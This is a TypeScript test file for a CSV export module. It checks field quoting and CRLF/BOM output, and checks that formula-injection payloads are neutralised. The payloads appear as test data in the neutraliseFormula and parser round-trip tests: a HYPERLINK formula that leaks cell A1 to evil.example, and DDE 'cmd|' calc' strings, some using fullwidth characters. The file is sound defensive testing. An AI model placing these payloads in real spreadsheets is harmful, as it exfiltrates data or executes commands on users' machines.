import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvField, formatCsv, neutraliseFormula, UTF8_BOM } from '../../src/lib/outputs/csv.ts';

describe('csvField', () => {
  test.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r\nlf', '"cr\r\nlf"'],
    [' padded', '" padded"'],
    ['海康威视', '海康威视'],
    ['', ''],
  ])('writes %j as %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe('formatCsv', () => {
  const rows = [
    ['id', 'name', 'note'],
    ['1', 'Hikvision (海康威视)', 'a, "b"\nc'],
    ['2', '', 'x'],
  ];

  test('ends every record with CRLF', () => {
    expect(formatCsv([['a', 'b'], ['1', '2']])).toBe('a,b\r\n1,2\r\n');
  });

  test('starts with a UTF-8 byte-order mark only when asked', () => {
    expect(formatCsv(rows, { bom: true }).startsWith(UTF8_BOM)).toBe(true);
    expect(formatCsv(rows).startsWith(UTF8_BOM)).toBe(false);
  });

  test('round-trips through a real RFC 4180 parser', () => {
    expect(parse(formatCsv(rows, { bom: true }), { bom: true, record_delimiter: '\r\n' })).toEqual(rows);
  });
});

describe('neutraliseFormula', () => {
  test.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")', '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['  =1+1', "'  =1+1"],
    ['-5', "'-5"],
  ])('makes %j inert as %j', (value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  test.each([
    ['2019-10-07'],
    ['2019-10-07-us-entity-list'],
    ['https://example.org/entries/x/'],
    ['Hikvision (海康威视)'],
    ['NDAA §889 — “covered” equipment'],
    ['1'],
    ['a=b'],
    ['e-mail'],
    ['— an em dash first'],
    [''],
  ])('leaves %j as it is', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });
});

describe('formula injection through a real CSV parser', () => {
  const hostile = [
    ['title', 'summary', 'shortName'],
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")', "+cmd|' /C calc'!A0", '=1+1'],
    ['@SUM(1+1)', '-1+1', '\t=1+1'],
    ['＝1+1', ' =1+1', '\r\n=1+1'],
  ];
  const parsed = parse(formatCsv(hostile, { bom: true }), { bom: true, record_delimiter: '\r\n' }) as string[][];

  test('reads back every cell that a spreadsheet would evaluate with a leading quote and nothing else changed', () => {
    const cells = parsed.slice(1).flat();
    expect(cells.filter((cell) => /^\s*[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(parsed.slice(1)).toEqual(hostile.slice(1).map((row) => row.map((cell) => `'${cell}`)));
  });

  test('keeps the header row and the number of records', () => {
    expect(parsed[0]).toEqual(hostile[0]);
    expect(parsed).toHaveLength(hostile.length);
  });
});
